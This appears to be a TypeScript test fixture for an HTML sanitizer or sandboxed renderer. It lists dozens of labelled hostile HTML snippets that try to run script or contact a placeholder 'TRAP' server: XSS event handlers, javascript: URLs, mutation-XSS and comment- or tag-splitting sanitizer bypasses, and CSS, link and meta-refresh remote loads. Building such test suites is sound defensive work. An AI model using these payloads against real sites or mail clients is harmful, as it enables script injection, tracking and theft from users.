/** What a page does when it may: says so to whoever shows it, and calls the trap. */
const act = "parent.postMessage('ran','*');new Image().src='TRAP/ran'";

/**
 * Pages that try to run, load, send or lead away, by what they try. `TRAP` stands for a server that must not hear of it. Each is a whole
 * way of its own: what browsers, mail programs and sanitizers have fallen for.
 */
export const hostilePages: Record<string, string> = {
  'a script': `<script>${act}</script>`,
  'a script from elsewhere': '<script src="TRAP/s.js"></script>',
  'a module': '<script type=module src="TRAP/m.js"></script>',
  'an image that fails': `<img src=x onerror="${act}">`,
  'an image that loads': `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${act}">`,
  'a remote pixel': '<img src="TRAP/pixel.gif" width=1 height=1>',
  'a set of images': '<img srcset="TRAP/a.png 1x, TRAP/b.png 2x"><picture><source srcset="TRAP/c.png"><img></picture>',
  'a body that loads': `<body onload="${act}" background="TRAP/body.png">text</body>`,
  'a cell with a background': '<table background="TRAP/t.png"><tr><td background="TRAP/td.png">x</td></tr></table>',
  'a style with addresses':
    '<div style="background:url(TRAP/1);list-style-image:url(TRAP/2);cursor:url(TRAP/3),auto">x</div>',
  'a style that hides its address': '<div style="background:\\75\\72\\6c(TRAP/4);border-image:url(TRAP/5)">x</div>',
  'an image set in a style': '<div style="background-image:image-set(\'TRAP/6\' 1x);content:url(TRAP/7)">x</div>',
  'a variable in a style': '<style>:root{--a:url(TRAP/8)}p{background:var(--a)}</style><p>x</p>',
  'an imported style': '<style>@import "TRAP/i.css";@import url(TRAP/j.css);</style>',
  'a font': '<style>@font-face{font-family:f;src:url(TRAP/f.woff2)}p{font-family:f}</style><p>text</p>',
  'a style sheet': '<link rel=stylesheet href="TRAP/l.css"><link rel="icon" href="TRAP/icon.png">',
  'links that fetch ahead':
    '<link rel=prefetch href="TRAP/p"><link rel=preload as=image href="TRAP/q"><link rel=modulepreload href="TRAP/r"><link rel=prerender href="TRAP/s"><link rel=manifest href="TRAP/t">',
  'a refresh': '<meta http-equiv=refresh content="0;url=TRAP/refresh">',
  'a refresh to a script': `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  'a base for relative addresses': '<base href="TRAP/"><img src="pic.png"><script src="s.js"></script>',
  'a frame': '<iframe src="TRAP/frame"></iframe>',
  'a frame with its own page': `<iframe srcdoc="<script>${act.replaceAll('parent', 'top')}</script><img src='TRAP/srcdoc'>"></iframe>`,
  'a frame with a script': `<iframe src="javascript:${act.replaceAll('parent', 'top')}"></iframe>`,
  'a frame of data': `<iframe src="data:text/html,<script>${act.replaceAll('parent', 'top')}</script>"></iframe>`,
  'a set of frames': '<frameset><frame src="TRAP/frameset"></frameset>',
  'an object': '<object data="TRAP/object"></object><embed src="TRAP/embed"><applet code="TRAP/applet"></applet>',
  'sound and film':
    '<video autoplay muted src="TRAP/v.mp4" poster="TRAP/poster.png"></video><audio autoplay src="TRAP/a.mp3"></audio><video><track default src="TRAP/t.vtt"></video>',
  'a source that fails': `<video><source onerror="${act}"></video><audio src=x onerror="${act}"></audio>`,
  'a form that wants to be sent':
    '<form action="TRAP/form"><input type=image src="TRAP/button.png"><input name=q value=1 autofocus></form>',
  'a field that takes the focus': `<input autofocus onfocus="${act}"><select autofocus onfocus="${act}"></select>`,
  'details that open': `<details open ontoggle="${act}"><summary>x</summary></details>`,
  'text that moves': `<marquee onstart="${act}">x</marquee><div style="animation:a 1ms" onanimationstart="${act}">x</div><style>@keyframes a{}</style>`,
  'a drawing': `<svg onload="${act}"><image href="TRAP/svg.png"/><use href="TRAP/u.svg#a"/><style>@import "TRAP/svg.css";</style></svg>`,
  'a script in a drawing': `<svg><script>${act}</script><foreignObject><script>${act}</script></foreignObject></svg>`,
  'a drawing that moves': `<svg><a><animate attributeName=href values="javascript:${act}"/><text>x</text></a><set attributeName=onmouseover to="${act}"/></svg>`,
  'a formula': `<math href="javascript:${act}"><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;"></mglyph></table></mtext></math>`,
  'a page that changes when read twice': `<svg></p><style><a id="</style><img src=1 onerror=${act.replaceAll('"', '')}>"></svg>`,
  'a noscript that is not one': `<noscript><p title="</noscript><img src=x onerror=${act}>"></noscript>`,
  'text areas that end early': `<textarea><p title="</textarea><img src=x onerror=${act}>"></textarea><xmp><p title="</xmp><img src=x onerror=${act}>"></xmp>`,
  'a comment that ends early': `<!--><img src=x onerror="${act}">--><!--[if gte mso 9]><script>${act}</script><![endif]-->`,
  'tags inside tags': `<scr<script>ipt>${act}</scr</script>ipt><img src="x"onerror="${act}"><img/src=x/onerror="${act}">`,
  'letters that are no spaces': `<img\u000csrc=x\u000conerror="${act}"><a\u00a0href="javascript:${act}">x</a><svg\u000bonload="${act}">`,
  'a template': `<template shadowrootmode=open><img src="TRAP/shadow" onerror="${act}"></template><div><template shadowrootmode="open"><img src=TRAP/shadow2></template></div>`,
  'a way out of the frame': `<a id=a href="TRAP/top" target=_top ping="TRAP/ping">x</a><script>a.click()</script>`,
  'a rule about loading ahead': `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["TRAP/spec"]}]}</script>`,
};
